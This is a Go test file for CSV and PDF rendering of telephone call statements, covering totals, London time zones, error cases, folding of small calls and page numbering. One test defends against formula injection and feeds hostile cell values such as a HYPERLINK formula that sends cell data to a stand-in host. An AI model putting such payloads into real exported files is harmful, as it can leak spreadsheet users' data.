package render

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
)

var london = func() *time.Location {
	l, err := time.LoadLocation("Europe/London")
	if err != nil {
		panic(err)
	}
	return l
}()

var callPrices = Currency{Symbol: "£", Decimals: 4}

// generatedCalls makes n June calls, the same for the same seed, each with
// its own number dialled so a test can find it; prices have 4 places.
func generatedCalls(n int, seed uint64) []Call {
	r := rand.New(rand.NewPCG(seed, 1))
	destinations := []string{"UK Mobile - Vodafone", "UK Geographic", "France Fixed", "Côte d'Ivoire Mobile", "USA"}
	bands := []string{"peak", "off-peak", "weekend"}
	start := time.Date(2026, 5, 31, 23, 0, 0, 0, time.UTC) // 1 June 00:00 in London
	calls := make([]Call, n)
	for i := range calls {
		d := r.IntN(3600) + 1
		calls[i] = Call{
			Start:           start.Add(time.Duration(i) * 29 * 24 * time.Hour / time.Duration(n)),
			CLI:             "+44113496" + fmt.Sprintf("%04d", r.IntN(20)),
			Dialled:         fmt.Sprintf("+447700%06d", i),
			Destination:     destinations[r.IntN(len(destinations))],
			Band:            bands[r.IntN(len(bands))],
			DurationSeconds: d,
			BillableSeconds: (d + 59) / 60 * 60,
			Price:           decimal.New(int64(r.IntN(3000)), -4),
		}
	}
	return calls
}

func sum(calls []Call) decimal.Decimal {
	s := decimal.Zero
	for _, c := range calls {
		s = s.Add(c.Price)
	}
	return s
}

func each(calls []Call) iter.Seq2[Call, error] {
	return func(yield func(Call, error) bool) {
		for _, c := range calls {
			if !yield(c, nil) {
				return
			}
		}
	}
}

func testStatement(t testing.TB, calls []Call) Statement {
	return Statement{
		Seller:        testSeller(t),
		Customer:      Party{Name: "Acme Plumbing Ltd", Reference: "ACME01", Address: []string{"1 Canal Wharf", "Leeds LS11 5PS"}},
		Charge:        "Call Charges — Leeds office",
		InvoiceNumber: 1042,
		PeriodStart:   time.Date(2026, 6, 1, 0, 0, 0, 0, london),
		PeriodEnd:     time.Date(2026, 7, 1, 0, 0, 0, 0, london),
		Location:      london,
		Currency:      callPrices,
		Total:         sum(calls),
		Calls:         each(calls),
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("the statement is not valid CSV: %v", err)
	}
	return rows
}

// Every call is one row, in the deployment's zone, and the rows add up to
// the statement's total exactly.
func TestStatementCSVRowsSumToTheTotal(t *testing.T) {
	calls := generatedCalls(5000, 7)
	// The last instant of June in London is 30 June 22:59:59 UTC (summer
	// time): the row must say 30 June 23:59:59, not a UTC date.
	calls[len(calls)-1].Start = time.Date(2026, 6, 30, 22, 59, 59, 0, time.UTC)
	st := testStatement(t, calls)
	var b bytes.Buffer
	if err := StatementCSV(&b, st); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, b.Bytes())
	if want := []string{"Date", "Time", "CLI", "Number dialled", "Destination", "Band", "Duration", "Billable seconds", "Price"}; strings.Join(rows[0], "|") != strings.Join(want, "|") {
		t.Errorf("header = %q", rows[0])
	}
	if len(rows)-1 != len(calls) {
		t.Fatalf("%d rows for %d calls", len(rows)-1, len(calls))
	}
	total := decimal.Zero
	for i, row := range rows[1:] {
		c := calls[i]
		price, err := decimal.NewFromString(row[8])
		if err != nil {
			t.Fatalf("row %d: price %q: %v", i+1, row[8], err)
		}
		total = total.Add(price)
		if len(row[8]) != len(strings.Split(row[8], ".")[0])+5 {
			t.Errorf("row %d: price %q is not written with 4 places", i+1, row[8])
		}
		local := c.Start.In(london)
		want := []string{local.Format("2006-01-02"), local.Format("15:04:05"), c.CLI, c.Dialled, c.Destination, c.Band,
			fmt.Sprintf("%d:%02d:%02d", c.DurationSeconds/3600, c.DurationSeconds/60%60, c.DurationSeconds%60),
			fmt.Sprint(c.BillableSeconds)}
		if strings.Join(row[:8], "|") != strings.Join(want, "|") {
			t.Fatalf("row %d = %q, want %q", i+1, row[:8], want)
		}
	}
	if !total.Equal(st.Total) {
		t.Errorf("the rows add up to %s, the statement's total is %s", total, st.Total)
	}
	last := rows[len(rows)-1]
	if last[0] != "2026-06-30" || last[1] != "23:59:59" {
		t.Errorf("the last call of June shows as %s %s, not in London time", last[0], last[1])
	}
}

// A CLI, a number or a description that would run as a formula is shown as
// text; numbers dialled in international form stay plain numbers.
func TestStatementCSVNeutralisesFormulas(t *testing.T) {
	call := func(cli, dialled, dest string) Call {
		return Call{Start: time.Date(2026, 6, 2, 9, 0, 0, 0, time.UTC), CLI: cli, Dialled: dialled, Destination: dest, Band: "peak", DurationSeconds: 61, BillableSeconds: 120, Price: dec("-0.0100")}
	}
	calls := []Call{
		call("+441134960000", "+33142685300", "France Fixed"),
		call("=HYPERLINK(\"http://x.example/?\"&A1)", "@SUM(1+1)", "-2+3"),
		call("\tcmd", "\r=1", "+ve"),
		call("01134960000", "-", "=1+1"),
		call("ACME:01", "+44 113 496 0000", "@"),
	}
	var b bytes.Buffer
	if err := StatementCSV(&b, testStatement(t, calls)); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, b.Bytes())[1:]
	want := [][3]string{
		{"+441134960000", "+33142685300", "France Fixed"},
		{"'=HYPERLINK(\"http://x.example/?\"&A1)", "'@SUM(1+1)", "'-2+3"},
		{"'\tcmd", "'\r=1", "'+ve"},
		{"01134960000", "'-", "'=1+1"},
		{"ACME:01", "'+44 113 496 0000", "'@"},
	}
	for i, w := range want {
		if got := [3]string{rows[i][2], rows[i][3], rows[i][4]}; got != w {
			t.Errorf("row %d: CLI, dialled, destination = %q, want %q", i+1, got, w)
		}
		// A negative price (a credit) is a number, not a formula: unquoted.
		if rows[i][8] != "-0.0100" {
			t.Errorf("row %d: price %q", i+1, rows[i][8])
		}
	}
}

func TestStatementsRefuseWhatDoesNotAddUp(t *testing.T) {
	calls := generatedCalls(50, 3)
	failing := errors.New("connection lost")
	for name, tc := range map[string]struct {
		change func(*Statement)
		want   string
	}{
		"a total other than the calls' sum": {func(s *Statement) { s.Total = s.Total.Add(dec("0.0001")) }, "the statement's calls add up to"},
		"a price with too many places": {func(s *Statement) {
			c := append([]Call(nil), calls...)
			c[10].Price, c[11].Price = dec("0.01234"), dec("0.00006") // the total still has 4 places
			s.Calls, s.Total = each(c), sum(c)
		}, "call 11: the amount 0.01234 has more than 4 decimal places"},
		"the calls cannot be read": {func(s *Statement) {
			s.Calls = func(yield func(Call, error) bool) {
				if yield(calls[0], nil) {
					yield(Call{}, failing)
				}
			}
		}, "reading the statement's calls: connection lost"},
		"no time zone": {func(s *Statement) { s.Location = nil }, "no time zone"},
	} {
		for format, render := range map[string]func(io.Writer, Statement) error{
			"csv": StatementCSV,
			"pdf": func(w io.Writer, st Statement) error { return StatementPDF(w, st, dec("0.01")) },
		} {
			t.Run(name+"/"+format, func(t *testing.T) {
				st := testStatement(t, calls)
				tc.change(&st)
				err := render(io.Discard, st)
				if err == nil || !strings.Contains(err.Error(), tc.want) {
					t.Fatalf("got %v, want an error saying %q", err, tc.want)
				}
			})
		}
	}
}

// The PDF lists the calls worth listing, folds the rest into one line with
// their count and sum, totals the statement and numbers every page.
func TestStatementPDFFoldsSmallCallsAndNumbersPages(t *testing.T) {
	calls := generatedCalls(400, 11)
	calls[0].Price = dec("0.2000")
	calls[0].Destination = "United Kingdom Mobile - Vodafone (Personal Numbering Service)"
	threshold := dec("0.0100")
	var listed, folded []Call
	for _, c := range calls {
		if c.Price.LessThan(threshold) {
			folded = append(folded, c)
		} else {
			listed = append(listed, c)
		}
	}
	if len(folded) == 0 || len(listed) < 200 {
		t.Fatalf("the generated calls give %d folded and %d listed; the test needs both", len(folded), len(listed))
	}
	var b bytes.Buffer
	if err := StatementPDF(&b, testStatement(t, calls), threshold); err != nil {
		t.Fatal(err)
	}
	pages := pdfPages(t, b.Bytes())
	if pages < 3 {
		t.Fatalf("%d listed calls fit on %d pages; the test needs more", len(listed), pages)
	}
	all := pdfText(t, b.Bytes(), 0)
	for _, want := range []string{"Northern Voice Ltd", "Call statement", "Acme Plumbing Ltd (ACME01)", "1 Canal Wharf", "1 June 2026 to 30 June 2026"} {
		if !strings.Contains(all, want) {
			t.Errorf("the statement does not say %q", want)
		}
	}
	for _, row := range [][]string{
		{"Charge", "Call Charges — Leeds office"}, {"Invoice", "1042"}, {"Calls total", mustMoney(t, sum(calls))},
		{"Times are in Europe/London. Calls under £0.0100 each are not listed one by one"},
	} {
		if _, ok := lineWith(all, row...); !ok {
			t.Errorf("no line reads %q", row)
		}
	}
	for _, c := range listed {
		local := c.Start.In(london)
		if _, ok := lineWith(all, local.Format("2006-01-02"), local.Format("15:04:05"), c.CLI, c.Dialled, c.Band,
			fmt.Sprintf("%d:%02d:%02d", c.DurationSeconds/3600, c.DurationSeconds/60%60, c.DurationSeconds%60),
			fmt.Sprint(c.BillableSeconds), c.Price.StringFixed(4)); !ok {
			t.Fatalf("the call to %s is not listed as it should be", c.Dialled)
		}
	}
	for _, c := range folded {
		if strings.Contains(all, c.Dialled) {
			t.Errorf("the call to %s at %s is under the threshold but listed", c.Dialled, c.Price)
		}
	}
	if _, ok := lineWith(all, fmt.Sprintf("%d calls under £0.0100 each, not listed", len(folded)), mustMoney(t, sum(folded))); !ok {
		t.Errorf("no line folds the %d small calls with their sum %s", len(folded), sum(folded))
	}
	last := pdfText(t, b.Bytes(), pages)
	if _, ok := lineWith(last, "Total of 400 calls", mustMoney(t, sum(calls))); !ok {
		t.Errorf("the last page has no total of %s:\n%s", sum(calls), last)
	}
	for p := 1; p <= pages; p++ {
		page := pdfText(t, b.Bytes(), p)
		if !strings.Contains(page, fmt.Sprintf("Page %d of %d", p, pages)) {
			t.Errorf("page %d is not numbered %d of %d:\n%s", p, p, pages, page)
		}
		if _, ok := lineWith(page, "Date", "Time", "CLI", "Number dialled", "Destination", "Band", "Duration", "Billable s", "Price (£)"); !ok {
			t.Errorf("page %d has no table header", p)
		}
	}
	// A destination wider than its column is cut with an ellipsis before the band.
	if _, ok := lineWith(all, calls[0].Dialled, "United Kingdom Mobile - Vodafone", "…", calls[0].Band); !ok || strings.Contains(all, "Numbering Service") {
		t.Errorf("the long destination of the call to %s is not cut to its column", calls[0].Dialled)
	}
	// Characters outside ASCII come through WinAnsi intact.
	if !strings.Contains(all, "Côte d'Ivoire Mobile") {
		t.Errorf("the destination Côte d'Ivoire Mobile was not written as such")
	}
}

func mustMoney(t testing.TB, d decimal.Decimal) string {
	s, err := callPrices.money(d)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// A statement with no calls still says so and totals zero; a zero threshold
// lists every call.
func TestStatementPDFEmptyAndUnfolded(t *testing.T) {
	var b bytes.Buffer
	if err := StatementPDF(&b, testStatement(t, nil), decimal.Zero); err != nil {
		t.Fatal(err)
	}
	text := pdfText(t, b.Bytes(), 0)
	for _, want := range [][]string{{"No calls in this period."}, {"Total of 0 calls", "£0.0000"}, {"Page 1 of 1"}} {
		if _, ok := lineWith(text, want...); !ok {
			t.Errorf("no line reads %q:\n%s", want, text)
		}
	}
	calls := generatedCalls(30, 5)
	b.Reset()
	if err := StatementPDF(&b, testStatement(t, calls), decimal.Zero); err != nil {
		t.Fatal(err)
	}
	text = pdfText(t, b.Bytes(), 0)
	for _, c := range calls {
		if !strings.Contains(text, c.Dialled) {
			t.Errorf("with no threshold the call to %s (%s) is not listed", c.Dialled, c.Price)
		}
	}
	if strings.Contains(text, "not listed") {
		t.Errorf("with no threshold a line still folds calls:\n%s", text)
	}
}
